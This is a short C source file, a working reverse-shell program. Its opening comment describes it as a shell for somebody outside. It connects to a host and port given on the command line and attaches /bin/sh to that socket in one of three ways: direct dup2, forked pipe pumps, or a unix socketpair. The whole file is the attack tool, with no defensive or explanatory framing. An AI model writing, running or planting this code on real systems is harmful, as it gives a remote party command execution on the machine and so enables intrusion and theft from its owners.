/* A shell for somebody outside: rev HOST PORT WAY */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void pump(int from, int to)
{
	char b[4096];
	ssize_t n;
	while ((n = read(from, b, sizeof b)) > 0)
		if (write(to, b, n) != n)
			break;
	_exit(0);
}

static void become(int in, int out)
{
	dup2(in, 0);
	dup2(out, 1);
	dup2(out, 2);
	execl("/bin/sh", "sh", (char *)0);
	_exit(1);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	if (argc < 4)
		return 2;
	inet_pton(AF_INET, argv[1], &a.sin_addr);
	a.sin_port = htons(atoi(argv[2]));
	int s = socket(AF_INET, SOCK_STREAM, 0), in[2], out[2];
	if (connect(s, (void *)&a, sizeof a))
		return 1;
	if (!strcmp(argv[3], "direct"))
		become(s, s);
	if (!strcmp(argv[3], "pipe")) {
		if (pipe(in) || pipe(out))
			return 1;
		if (!fork())
			become(in[0], out[1]);
		if (!fork())
			pump(s, in[1]);
		pump(out[0], s);
	}
	if (!strcmp(argv[3], "unix pair")) {
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, in))
			return 1;
		if (!fork())
			become(in[1], in[1]);
		if (!fork())
			pump(s, in[0]);
		pump(in[0], s);
	}
	return 2;
}
